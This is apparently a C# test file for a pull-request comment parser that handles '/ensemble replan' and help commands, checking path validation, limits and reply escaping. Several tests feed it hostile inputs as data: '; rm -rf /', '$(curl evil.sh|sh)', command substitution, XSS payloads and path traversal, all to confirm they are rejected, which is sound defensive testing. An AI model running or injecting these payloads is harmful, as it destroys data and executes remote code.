using System.Text.RegularExpressions;
using Ensemble.Jobs.Core.Approvals;

namespace Ensemble.Tests.Core.Approvals;

public sealed partial class CommentParserTests
{
    private static readonly ParsedComment.NotACommand None = new();
    private static readonly ParsedComment.Help Help = new();

    public static TheoryData<string, string[]> Replans => new()
    {
        { "/ensemble replan", [] },
        { "/ensemble plan", [] },
        { "/ENSEMBLE REPLAN", [] },
        { "/Ensemble Replan envs/prod", ["envs/prod"] },
        { "/ensemble replan envs/prod modules/net", ["envs/prod", "modules/net"] },
        { "/ensemble \t replan\t  envs/prod   ", ["envs/prod"] },
        { "/ensemble replan envs/prod\r\n", ["envs/prod"] },
        { "Looks good, but the state moved.\r\n/ensemble replan envs/prod\r\nthanks", ["envs/prod"] },
        { "   /ensemble replan", [] },
        { "/ensemble replan ./envs/prod/ envs/prod", ["envs/prod"] },
        { "/ensemble replan .", ["."] },
        { "/ensemble replan ./", ["."] },
        { "/ensemble replan Envs/Prod envs/prod", ["Envs/Prod", "envs/prod"] },
        { "/ensemble replan a_b/c-d/e.f", ["a_b/c-d/e.f"] },
        { "/ensemble replan envs/prod\u00A0envs/dev", ["envs/prod", "envs/dev"] },
        { "/ensemble replan a\n/ensemble replan b", ["a"] },
        { "/ensemble replan a\r/ensemble help", ["a"] },
        { "```\n/ensemble replan fenced\n```\n/ensemble replan real", ["real"] },
        { "> /ensemble replan quoted\n/ensemble replan real", ["real"] },
    };

    [Theory]
    [MemberData(nameof(Replans))]
    public void Parse_ReplanComment_ReturnsTheProjects(string body, string[] projects)
    {
        var replan = Assert.IsType<ParsedComment.Replan>(CommentParser.Parse(body));

        Assert.Equal(projects, replan.Projects);
        Assert.Equal(projects.Length == 0, replan.AllProjects);
    }

    public static TheoryData<string?> NotCommands => new()
    {
        null,
        "",
        "LGTM",
        "please run /ensemble replan",
        "`/ensemble replan`",
        "> /ensemble replan",
        ">/ensemble replan",
        "> > /ensemble replan",
        "```\n/ensemble replan\n```",
        "```sh\n/ensemble replan\n```",
        "~~~\n/ensemble replan\n~~~",
        "````\n```\n/ensemble replan\n````",
        "```\r\n/ensemble replan\r\n",
        "    /ensemble replan",
        "\t/ensemble replan",
        "/ensemblereplan",
        "/ensemble-replan",
        "/ensemble\0replan",
        "/ensemble\u200Breplan",
        "\u202E/ensemble replan",
        "\uFEFF/ensemble replan",
        "<!-- /ensemble replan -->",
        "- /ensemble replan",
        "/atlantis plan",
        "ensemble replan",
    };

    [Theory]
    [MemberData(nameof(NotCommands))]
    public void Parse_NoCommandLine_IsNotACommand(string? body)
    {
        Assert.Equal(None, CommentParser.Parse(body));
    }

    [Theory]
    [InlineData("/ensemble help")]
    [InlineData("/ensemble HELP")]
    [InlineData("/ensemble help me please")]
    [InlineData("```\n/ensemble replan\n```\n/ensemble help\n/ensemble replan")]
    [InlineData("``` not a fence because `` ```\n/ensemble help")]
    public void Parse_HelpComment_IsHelp(string body)
    {
        Assert.Equal(Help, CommentParser.Parse(body));
    }

    [Theory]
    [InlineData("/ensemble", "`/ensemble` needs a command.")]
    [InlineData("/ensemble   ", "`/ensemble` needs a command.")]
    [InlineData("/ensemble apply", "There is no `apply` command")]
    [InlineData("/ensemble approve", "**Approve** button")]
    [InlineData("/ensemble destroy", "Unknown command destroy.")]
    public void Parse_UnusableCommand_IsInvalidWithHelp(string body, string expected)
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse(body));

        Assert.Contains(expected, invalid.Reply, StringComparison.Ordinal);
        Assert.EndsWith(CommentParser.HelpText, invalid.Reply, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/ensemble replan /etc", "without a leading `/`")]
    [InlineData("/ensemble replan ../other-repo", "must not contain `..`")]
    [InlineData("/ensemble replan envs/../../x", "must not contain `..`")]
    [InlineData("/ensemble replan envs//prod", "must not contain empty or `.` parts")]
    [InlineData("/ensemble replan envs/./prod", "must not contain empty or `.` parts")]
    [InlineData("/ensemble replan envs/prod;", "may contain only letters, digits")]
    [InlineData("/ensemble replan envs/prod\u200B", "may contain only letters, digits")]
    [InlineData("/ensemble replan envs/pröd", "may contain only letters, digits")]
    [InlineData("/ensemble replan envs\\prod", "may contain only letters, digits")]
    public void Parse_BadProjectPath_IsInvalidSayingWhy(string body, string expected)
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse(body));

        Assert.Contains(expected, invalid.Reply, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/ensemble replan ; rm -rf /")]
    [InlineData("/ensemble replan $(curl evil.sh|sh)")]
    [InlineData("/ensemble replan `id`")]
    [InlineData("/ensemble replan a|b && c")]
    [InlineData("/ensemble replan <script>alert(1)</script>")]
    [InlineData("/ensemble replan [click](https://evil.example)")]
    [InlineData("/ensemble replan ![x](https://evil.example/x.png)")]
    [InlineData("/ensemble replan @everyone")]
    [InlineData("/ensemble replan \u202Eevil\u202C")]
    [InlineData("/ensemble replan a\0b")]
    [InlineData("/ensemble `rm -rf /`")]
    [InlineData("/ensemble <img src=x onerror=alert(1)>")]
    public void Parse_HostileArguments_InvalidAndNothingEchoedRaw(string body)
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse(body));
        var reply = invalid.Reply.Replace(CommentParser.HelpText, "", StringComparison.Ordinal);

        // Once backslash-escaped characters are taken out, no character that could start markup, HTML, a table cell
        // or a mention is left, and the reply's own code spans stay balanced.
        var unescaped = EscapedPair().Replace(reply, "");
        Assert.Equal(-1, unescaped.IndexOfAny(['<', '>', '[', ']', '|', '@', '$', '!', '\u202E', '\0', '\r']));
        Assert.Equal(0, unescaped.Count(c => c == '`') % 2);
    }

    [GeneratedRegex(@"\\[!-/:-@\[-`{-~]")]
    private static partial Regex EscapedPair();

    [Fact]
    public void Parse_ShellMetacharacters_ReportEachBadArgumentByPosition()
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse("/ensemble replan envs/prod ; rm -rf /"));

        Assert.Contains("- argument 2 (\\;) may contain only letters", invalid.Reply, StringComparison.Ordinal);
        Assert.Contains("- argument 5 (/) must be relative to the repository root", invalid.Reply, StringComparison.Ordinal);
        Assert.DoesNotContain("argument 1 ", invalid.Reply, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_OneMegabyteComment_FindsTheCommandQuickly()
    {
        var body = new string('x', 1 << 20) + "\n/ensemble replan envs/prod\n" + new string('y', 1 << 20);

        var replan = Assert.IsType<ParsedComment.Replan>(CommentParser.Parse(body));

        Assert.Equal(["envs/prod"], replan.Projects);
    }

    [Fact]
    public void Parse_OneMegabyteArgument_IsInvalidWithAShortReply()
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse("/ensemble replan " + new string('a', 1 << 20)));

        Assert.Contains("longer than 256 characters", invalid.Reply, StringComparison.Ordinal);
        Assert.True(invalid.Reply.Length < 2_000 + CommentParser.HelpText.Length);
    }

    [Fact]
    public void Parse_ProjectPathOfExactly256Characters_IsAccepted()
    {
        var path = new string('a', 256);

        var replan = Assert.IsType<ParsedComment.Replan>(CommentParser.Parse("/ensemble replan " + path));

        Assert.Equal([path], replan.Projects);
    }

    [Fact]
    public void Parse_FiftyProjects_Accepted_FiftyOne_Invalid()
    {
        var fifty = string.Join(' ', Enumerable.Range(1, 50).Select(i => $"p{i}"));

        Assert.Equal(50, Assert.IsType<ParsedComment.Replan>(CommentParser.Parse("/ensemble replan " + fifty)).Projects.Count);
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse("/ensemble replan " + fifty + " p51"));
        Assert.Contains("at most 50 projects", invalid.Reply, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_HundredThousandArguments_StopsAtTheLimit()
    {
        var body = "/ensemble replan " + string.Join(' ', Enumerable.Repeat("; rm -rf /", 100_000));

        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse(body));

        Assert.Contains("at most 50 projects", invalid.Reply, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_ManyBadArguments_ReportsOnlyTheFirstFive()
    {
        var invalid = Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse("/ensemble replan ; ; ; ; ; ; ;"));

        Assert.Equal(5, invalid.Reply.Split("- argument ").Length - 1);
    }

    [Fact]
    public void Parse_FirstCommandLineInvalid_LaterValidLineIgnored()
    {
        Assert.IsType<ParsedComment.Invalid>(CommentParser.Parse("/ensemble nope\n/ensemble replan"));
    }

    [Fact]
    public void HelpText_ListsEveryCommand()
    {
        Assert.Contains("`/ensemble replan`", CommentParser.HelpText, StringComparison.Ordinal);
        Assert.Contains("`/ensemble replan <project> …`", CommentParser.HelpText, StringComparison.Ordinal);
        Assert.Contains("`/ensemble help`", CommentParser.HelpText, StringComparison.Ordinal);
    }

    [Fact]
    public void ValidateProjects_AllKnown_Null()
    {
        Assert.Null(CommentParser.ValidateProjects(new ParsedComment.Replan(["envs/prod"]), ["envs/dev", "envs/prod"]));
        Assert.Null(CommentParser.ValidateProjects(new ParsedComment.Replan([]), []));
    }

    [Fact]
    public void ValidateProjects_UnknownProject_ListsTheValidPaths()
    {
        var reply = CommentParser.ValidateProjects(new ParsedComment.Replan(["envs/prd", "envs/prod"]), ["envs/prod", "envs/dev"]);

        Assert.Equal(
            "Unknown project `envs/prd`.\n\nThe projects of this pull request are:\n- `envs/dev`\n- `envs/prod`\n\nComment `/ensemble replan` to plan them all.",
            reply);
    }

    [Fact]
    public void ValidateProjects_ProjectPathsAreCaseSensitive()
    {
        Assert.NotNull(CommentParser.ValidateProjects(new ParsedComment.Replan(["Envs/Prod"]), ["envs/prod"]));
    }

    [Fact]
    public void ValidateProjects_NoProjectsInThePullRequest_SaysSo()
    {
        var reply = CommentParser.ValidateProjects(new ParsedComment.Replan(["envs/prod"]), []);

        Assert.Equal("Unknown project `envs/prod`.\n\nThis pull request changes no Terraform project, so there is nothing to replan.", reply);
    }

    [Fact]
    public void ValidateProjects_ManyProjects_ListsFiftyAndCountsTheRest()
    {
        var known = Enumerable.Range(0, 120).Select(i => $"p{i:D3}").ToList();

        var reply = CommentParser.ValidateProjects(new ParsedComment.Replan(["nope"]), known)!;

        Assert.Contains("- `p049`\n- … and 70 more\n", reply, StringComparison.Ordinal);
        Assert.DoesNotContain("p050", reply, StringComparison.Ordinal);
    }

    [Fact]
    public void ValidateProjects_KnownPathWithMarkdown_IsEscaped()
    {
        var reply = CommentParser.ValidateProjects(new ParsedComment.Replan(["x"]), ["we`ird/<b>"])!;

        Assert.DoesNotContain("<b>", reply, StringComparison.Ordinal);
        Assert.DoesNotContain("we`ird", reply, StringComparison.Ordinal);
    }
}
